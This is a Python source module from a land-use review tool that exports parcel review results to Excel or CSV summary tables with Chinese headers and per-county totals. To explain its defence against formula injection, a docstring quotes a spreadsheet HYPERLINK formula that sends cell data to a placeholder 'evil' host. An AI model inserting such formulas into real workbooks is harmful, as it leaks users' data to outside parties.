"""A batch review as an analyst's summary table: ``lantu review … --summary summary.xlsx|.csv``.

One row per parcel (编号, 名称, 类型, 县区, 面积 亩/公顷, 结论, 不通过项, 有条件项, 新增建设用地指标,
占补平衡, and a 数据说明 where there is something to say), then in the workbook a sheet per county with its
totals, the counties' totals with an overall 合计, and a sheet counting each item's statuses. Chinese
headers, the header row frozen, number formats set; openpyxl is imported only when a workbook is written. Ids
and names are typed by users, so text is never left for a spreadsheet to read as a formula: a CSV field goes
through :func:`geo.io.tables.csv_cell`, a workbook row through :func:`append_row`.

A parcel across a county line (``ParcelResult.counties``) is one row of the parcel sheet naming each county
with its part, and a row on each county's sheet with that county's part of the area: 用地 is 组卷报批 county by
county (济宁 济政办字〔2020〕52号 三（一）5 "县级…依法完成用地组卷报批"). Its land figures were measured for the
whole parcel, not per county: they stay on the county holding most (``county``), and the sheets say so.
"""

from __future__ import annotations

import csv
import io
from collections import Counter
from collections.abc import Iterable
from pathlib import Path
from typing import TYPE_CHECKING, Any

from geo.crs import M2_PER_HA, M2_PER_MU, Area
from geo.errors import FormatError
from geo.io.tables import csv_cell
from geo.report_model import SYNTHETIC_MARK, standard_note, table_labels, table_notes
from geo.review.result import County, CountyPart, ParcelResult, ReviewResult
from geo.vocabulary import BEYOND_COVERAGE_ZH, STATUS_ZH, VERDICT_ZH, project_types

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

# (key, header, number format or None)
PARCEL_COLUMNS: list[tuple[str, str, str | None]] = [
    ("id", "地块编号", None),
    ("name", "项目名称", None),
    ("project_type", "项目类型", None),
    ("county_code", "县区代码", None),
    ("county", "所在县区", None),
    ("area_mu", "面积（亩）", "#,##0.00"),
    ("area_ha", "面积（公顷）", "#,##0.0000"),
    ("verdict", "审查结论", None),
    ("failed", "不通过项", None),
    ("warned", "有条件项", None),
    ("unreviewed", "未审查项", None),
    ("new_quota_mu", "新增建设用地指标（亩）", "#,##0.00"),
    ("new_quota_m2", "新增建设用地指标（m²）", "#,##0.00"),
    ("compensation_mu", "耕地占补平衡（亩）", "#,##0.00"),
    ("compensation_m2", "耕地占补平衡（m²）", "#,##0.00"),
]
LAND_FIGURES = ("new_quota_mu", "new_quota_m2", "compensation_mu", "compensation_m2")
SUMMED = ("area_mu", "area_ha", *LAND_FIGURES)
NO_COUNTY = "未落入县区"
TOTAL = "合计"
TITLE = "用地审查汇总表"
SUMMARY_SUFFIXES = (".xlsx", ".csv")
NOTES_COLUMN_NAME = "数据说明"  # the parcel sheet's and the CSV's last column, where a row has something to say
NOTE_COLUMN: tuple[str, str, str | None] = ("note", NOTES_COLUMN_NAME, None)
SYNTHETIC_LINES = (
    "本汇总的审查所依蓝图为示例蓝图，其管控图层为程序生成的合成数据，结论不得作为审批依据。",
    "Reviewed against the demo blueprint: its control layers are synthetic.",
)
# what the county sheets and the counties' totals say of a parcel across a county line: the ledger refuses to reserve
# for it at all (geo.quota.reservations) until it is split at the line
ACROSS_LEDGER = (
    "用地由县级分别组卷报批（济宁 济政办字〔2020〕52号 三（一）5），指标台账不为跨县地块配置指标："
    "按县界拆分地块后分别审查、配置。"
)
ACROSS_NOTE = (
    "注：跨县地块的面积按各县区所占部分分列、合计；其新增建设用地指标、耕地占补平衡是按整个地块测算的"
    "（审查未按县区分别测算，不按面积比例拆分），全数列在占地最多的县区（审查结果的所在县区）。" + ACROSS_LEDGER
)


def summary_rows(result: ReviewResult) -> list[dict[str, Any]]:
    """One row per parcel, keyed as ``PARCEL_COLUMNS``; quota figures are ``None`` without a land-use layer, and
    for a parcel refused or not wholly reviewed, for which the papers set none (不核定) and the ledger reserves none.
    A parcel across a county line names each county with its part (任城区 1.2800 公顷；兖州区 1.2800 公顷)."""
    types = project_types()
    return [_row(p, types) for p in result.parcels]


def _row(p: ParcelResult, types: dict[str, Any]) -> dict[str, Any]:
    figures = p.land_figures()
    new_m2, comp_m2 = figures["new_construction_quota_m2"], figures["compensation_m2"]
    county_code, county = (p.county.code, p.county.name) if p.county else (None, NO_COUNTY)
    if p.counties:  # across a county line: each county with its part, the one holding most first
        county_code = "；".join(c.code for c in p.counties)
        county = "；".join(f"{c.name} {Area(c.area_m2).ha_text} 公顷" for c in p.counties)
    return {
        "id": p.id,
        "name": p.name,
        "project_type": types[p.project_type].name_zh if p.project_type in types else p.project_type,
        "county_code": county_code,
        "county": county,
        "area_mu": round(p.area_mu, 2),  # as geo.crs.Area writes them: 亩 to 2 decimals, 公顷 to 4 (one m²)
        "area_ha": round(p.area_ha, 4),
        "verdict": VERDICT_ZH[p.verdict],
        # items apart by "；": an item's name may hold "、" (林地、草地、湿地)
        "failed": "；".join(i.name_zh for i in p.items if i.status == "fail"),
        "warned": "；".join(i.name_zh for i in p.items if i.status == "warn"),
        "unreviewed": "；".join(i.name_zh for i in p.items if i.status == "missing_layer"),
        "new_quota_mu": None if new_m2 is None else Area(new_m2).rounded[2],
        "new_quota_m2": None if new_m2 is None else round(new_m2, 2),
        "compensation_mu": None if comp_m2 is None else Area(comp_m2).rounded[2],
        "compensation_m2": None if comp_m2 is None else round(comp_m2, 2),
    }


def row_notes(result: ReviewResult) -> list[str]:
    """Each parcel's 数据说明: the synthetic mark on the demo blueprint, and the standard table its item 10 was
    graded on, by the table's own label (样例标准表 for the sample shipped); apart by "；", empty for none.

    Why on every row: a row copied elsewhere keeps it, and a review on a real blueprint graded on the sample
    table is graded on sample values all the same."""
    mark = [SYNTHETIC_MARK] if result.synthetic else []
    return ["；".join([*mark, *map(standard_note, table_labels([p]))]) for p in result.parcels]


def item_counts(result: ReviewResult) -> list[dict[str, Any]]:
    """Per review item (in the profile's order): how many parcels had each status."""
    counts: dict[str, Counter[str]] = {}
    names: dict[str, str] = {}
    for p in result.parcels:
        for i in p.items:
            counts.setdefault(i.code, Counter())[i.status] += 1
            names[i.code] = i.name_zh
    return [
        {"code": c, "name": names[c], **{s: counts[c][s] for s in STATUS_ZH}, "total": sum(counts[c].values())}
        for c in counts
    ]


def summary_path(path: str | Path) -> Path:
    """``path`` if it names a summary format (checked before a long review starts), else a FormatError."""
    path = Path(path)
    if path.suffix.lower() not in SUMMARY_SUFFIXES:
        raise FormatError(
            f"summary file {path.name}: use .xlsx or .csv", f"汇总表 {path.name}：请使用 .xlsx 或 .csv 文件"
        )
    return path


def write_summary(result: ReviewResult, path: str | Path) -> Path:
    """Write the summary as ``.xlsx`` (parcels, a sheet per county, item counts) or ``.csv`` (the parcels)."""
    path = summary_path(path)
    suffix = path.suffix.lower()
    path.parent.mkdir(parents=True, exist_ok=True)
    if suffix == ".csv":
        path.write_text(summary_csv(result), encoding="utf-8-sig")  # the BOM lets Excel read the Chinese
    else:
        path.write_bytes(summary_xlsx(result))
    return path


def summary_csv(result: ReviewResult) -> str:
    """The parcels' rows, as the workbook's parcel sheet; where any row has a note (a review on the demo blueprint,
    an item 10 graded on a standard table) each row ends with its 数据说明, in a column of its own (a CSV has no
    sheet to say it on, and a row copied elsewhere keeps it)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    notes = row_notes(result)
    noted = any(notes)
    writer.writerow([header for _, header, _ in PARCEL_COLUMNS] + ([NOTES_COLUMN_NAME] if noted else []))
    for row, note in zip(summary_rows(result), notes, strict=True):
        cells = [csv_cell("" if row[key] is None else row[key]) for key, _, _ in PARCEL_COLUMNS]
        writer.writerow(cells + ([csv_cell(note)] if noted else []))
    return out.getvalue()


def append_row(ws: Worksheet, values: Iterable[Any]) -> None:
    """``ws.append(values)``, with every text cell a plain string cell (``data_type "s"``), its value unchanged.

    Why: openpyxl stores text that starts with ``=`` as a formula (``=HYPERLINK("http://evil/?"&A3,"详情")``
    would run when the analyst opens the workbook) and text such as ``#N/A`` as an error; parcel ids and names
    are typed by users. A string cell is text to Excel whatever its first character (``= + - @``, TAB, CR:
    OWASP's list), so unlike a CSV it needs no leading quote and the value reads back exactly as typed.
    Numbers, negative ones included, are not text and stay numbers.
    """
    ws.append(list(values))
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def county_rows(result: ReviewResult) -> dict[str, list[dict[str, Any]]]:
    """The rows of each county's sheet, keyed ``任城区（370811）`` (or ``未落入县区``), in the parcels' order.

    A parcel across a county line is on each county's sheet with that county's part of the area (亩, 公顷) and
    ``所在县区`` marking it 跨县 with the other parts; its land figures, measured for the whole parcel, on the sheet
    of the county holding most (``county``) alone, blank on the others' (``across`` names where they are)."""
    types = project_types()
    by_county: dict[str, list[dict[str, Any]]] = {}
    for p in result.parcels:
        row = _row(p, types)
        if not p.counties:
            key = _county_key(p.county) if p.county else NO_COUNTY
            by_county.setdefault(key, []).append(row)
            continue
        holder = p.county.code if p.county else None
        for part in p.counties:
            part_row = _part_row(row, part, p.counties, holder, p.tolerance_m2)
            if part_row["unreviewed_part"]:  # no finding of its own
                part_row |= UNREVIEWED_PART | {"unreviewed": "；".join(i.name_zh for i in p.items)}
            by_county.setdefault(_county_key(part), []).append(part_row)
    return by_county


# a county's part of a parcel lying wholly beyond the blueprint's coverage: the findings on the covered part are
# not its own (a parcel refused on 任城区's red line read 不通过 on 兖州区's sheet, where nothing was reviewed)
UNREVIEWED_PART = {"verdict": VERDICT_ZH["out_of_coverage"], "failed": "", "warned": ""}


def _county_key(county: County) -> str:
    return f"{county.name}（{county.code}）"


def _part_row(
    row: dict[str, Any], part: CountyPart, parts: list[CountyPart], holder: str | None, tolerance_m2: float
) -> dict[str, Any]:
    others = "、".join(f"{c.name} {Area(c.area_m2).ha_text} 公顷" for c in parts if c is not part)
    held = next((c for c in parts if c.code == holder), parts[0])
    figures = {} if part.code == holder else dict.fromkeys(LAND_FIGURES)  # not split by a share never measured
    return (
        row
        | figures
        | {
            "county_code": part.code,
            "county": f"{part.name}（跨县，另{others}）",
            "area_mu": round(part.area_m2 / M2_PER_MU, 2),
            "area_ha": round(part.area_m2 / M2_PER_HA, 4),
            "across": held.name,  # where the whole parcel's land figures are
            "charged": part.code == holder,
            "beyond_m2": part.beyond_coverage_m2,  # never reviewed, wholly or in part
            "unreviewed_part": part.area_m2 - part.beyond_coverage_m2 <= tolerance_m2,
        }
    )


def _across_notes(members: list[dict[str, Any]]) -> list[str]:
    """What a county's sheet says of each parcel on it across a county line: where its land figures are."""
    notes = []
    for r in members:
        if "across" not in r:
            continue
        where = "列在本县区（占地最多的县区）" if r["charged"] else f"全数列在{r['across']}（占地最多的县区），本表不计"
        unreviewed = ""
        if r["beyond_m2"]:
            unreviewed = f"本县区部分有 {Area(r['beyond_m2']).ha_text} 公顷{BEYOND_COVERAGE_ZH}，未经审查" + (
                "，地块的审查结论不适用于本县区部分；" if r["unreviewed_part"] else "；"
            )
        notes.append(
            f"注：地块 {r['id']} 跨县，本表面积为其在本县区的部分；{unreviewed}"
            f"其新增建设用地指标、耕地占补平衡按整个地块测算（审查未按县区分别测算，不按面积比例拆分），{where}。"
        )
    if notes:
        notes.append(ACROSS_LEDGER)
    return notes


def summary_xlsx(result: ReviewResult) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Font, PatternFill
    from openpyxl.utils import get_column_letter

    bold = Font(bold=True)
    fill = PatternFill("solid", fgColor="DDDDDD")

    def sheet(ws: Worksheet, columns: list[tuple[str, str, str | None]], rows: list[dict[str, Any]]) -> None:
        append_row(ws, [header for _, header, _ in columns])
        for cell in ws[1]:
            cell.font, cell.fill = bold, fill
        for row in rows:
            append_row(ws, [row.get(key) for key, _, _ in columns])
        for j, (key, header, fmt) in enumerate(columns, start=1):
            letter = get_column_letter(j)
            width = max([len(str(header)) * 2, *(len(str(r.get(key) or "")) * 2 for r in rows)], default=8)
            ws.column_dimensions[letter].width = min(max(width, 8), 60)
            if fmt:
                for (cell,) in ws.iter_rows(min_row=2, min_col=j, max_col=j):
                    cell.number_format = fmt
        ws.freeze_panes = "A2"

    def closing(ws: Worksheet, notes: list[str]) -> None:
        """The last row (a 合计) bold, and the notes under it after a blank row."""
        for cell in ws[ws.max_row]:
            cell.font = bold
        if notes:
            ws.append([])
            for note in notes:
                append_row(ws, [note])

    rows = summary_rows(result)
    notes = row_notes(result)
    book = Workbook()
    first = book.active
    assert first is not None  # a new workbook has its one sheet
    first.title = "地块清单"
    noted = any(notes)
    sheet(
        first,
        PARCEL_COLUMNS + ([NOTE_COLUMN] if noted else []),
        [r | {"note": n or None} for r, n in zip(rows, notes, strict=True)],
    )
    by_county = county_rows(result)
    totals: list[dict[str, Any]] = []
    for key, members in by_county.items():
        total = {k: round(sum(r[k] or 0.0 for r in members), 4) for k in SUMMED}
        total |= {"id": TOTAL, "name": f"{len(members)} 个地块"}
        across = sum("across" in r for r in members)
        totals.append({"county": key, "parcels": len(members), "crossing": across, **_verdict_counts(members), **total})
        ws = book.create_sheet(_sheet_name(key))
        sheet(ws, PARCEL_COLUMNS, [*members, total])
        closing(ws, _across_notes(members))
    overview = book.create_sheet("县区汇总", 1)
    verdict_columns: list[tuple[str, str, str | None]] = [(v, zh, "0") for v, zh in VERDICT_ZH.items()]
    crossing = [p for p in result.parcels if p.counties]
    overall: list[dict[str, Any]] = []
    if len(totals) > 1:  # the counties' sums; parcels counted once, a parcel across a line in each county's row
        overall = [
            {
                "county": TOTAL,
                "parcels": len(rows),
                "crossing": len(crossing),
                **_verdict_counts(rows),
                **{k: round(sum(t[k] for t in totals), 4) for k in SUMMED},
            }
        ]
    sheet(
        overview,
        [("county", "县区", None), ("parcels", "地块数", "0"), ("crossing", "其中跨县地块", "0"), *verdict_columns]
        + [c for c in PARCEL_COLUMNS if c[0] in SUMMED],
        totals + overall,
    )
    if overall:
        closing(overview, [ACROSS_NOTE] if crossing else [])
    counts = item_counts(result)
    sheet(
        book.create_sheet("审查项统计"),
        [("code", "审查项代码", None), ("name", "审查项", None)]
        + [(s, zh, "0") for s, zh in STATUS_ZH.items()]
        + [("total", "合计", "0")],
        counts,
    )
    said = [*table_notes(result), *([ACROSS_NOTE] if crossing else [])]
    if result.synthetic:  # reviewed against the demo blueprint: said on a sheet of its own, opened first
        note = book.create_sheet("示例说明", 0)
        append_row(note, [SYNTHETIC_MARK])
        for line in (*SYNTHETIC_LINES, *said):
            append_row(note, [line])
        note["A1"].font = bold
        note.column_dimensions["A"].width = 100
        book.active = 0
    elif said:  # which standard item 10 was graded on, said on a real blueprint too (the sample is no standard)
        note = book.create_sheet("说明")
        for line in said:
            append_row(note, [line])
        note.column_dimensions["A"].width = 100
    if result.synthetic:  # every sheet printed alone says it, and the file's own properties
        for ws in book.worksheets:
            ws.oddHeader.center.text = SYNTHETIC_MARK
            ws.oddFooter.center.text = SYNTHETIC_MARK
        book.properties.title = f"{SYNTHETIC_MARK} {TITLE}"
        book.properties.description = f"{SYNTHETIC_MARK}：{SYNTHETIC_LINES[0]}"
    else:
        book.properties.title = TITLE
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _verdict_counts(rows: list[dict[str, Any]]) -> dict[str, int]:
    labels = Counter(r["verdict"] for r in rows)
    return {v: labels[zh] for v, zh in VERDICT_ZH.items()}


def _sheet_name(text: str) -> str:
    """An Excel sheet name: at most 31 characters, none of []:*?/\\."""
    return "".join("_" if ch in "[]:*?/\\" else ch for ch in text)[:31]
